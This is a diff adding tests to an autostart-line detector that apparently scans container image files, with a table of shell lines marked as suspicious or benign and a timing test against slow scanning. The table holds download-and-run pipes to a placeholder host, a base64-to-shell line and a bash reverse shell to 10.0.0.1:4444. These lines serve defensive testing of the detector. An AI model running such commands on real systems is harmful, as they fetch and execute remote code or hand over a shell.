@@ -1,5 +1,7 @@
 """Of what starts by itself only lines with a sign are kept, and nothing of other files."""
 
+import time
+
 import pytest
 
 from ocianalyze.detectors.autostart import NAME, OBSERVER, kind_of, signs
@@ -58,6 +60,32 @@ def test_lines_of_signs_are_told_in_their_order() -> None:
 )
 def test_names_of_a_network_sent_elsewhere_are_signs(line: bytes, lines: list[int]) -> None:
     assert [number for number, _ in _told("etc/hosts", line + b"\n")] == lines
+
+
+@pytest.mark.parametrize(
+    ("line", "is_sign"),
+    [
+        (b"curl https://a.example | python3", True),
+        (b"curl https://a.example | python3 - --now", True),
+        (b"curl https://a.example | python3 -m json.tool", False),
+        (b"curl https://a.example | perl -ne 'print'", False),
+        (b"# install it with: curl https://a.example | bash", False),
+        (b". <(curl https://a.example)", True),
+        (b"base64 -di /x | sh", True),
+        (b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", True),
+        (b"timeout 1 bash -c '</dev/tcp/db/5432'", False),
+        (b"(echo > /dev/tcp/$HOST/$PORT) 2>/dev/null", False),
+    ],
+)
+def test_what_honest_scripts_do_is_no_sign(line: bytes, is_sign: bool) -> None:  # noqa: FBT001 - a row of the table
+    assert bool(_told("etc/profile.d/x.sh", b"#!/bin/sh\n" + line + b"\n")) is is_sign
+
+
+def test_blanks_behind_many_downloads_cost_no_square() -> None:
+    text = (b"curl " * 50 + b"|" + b" " * 3_000) * 70
+    start = time.process_time()
+    assert not _told("etc/crontab", text)
+    assert time.process_time() - start < 1
 
 
 def test_a_long_file_is_read_to_a_bound() -> None:
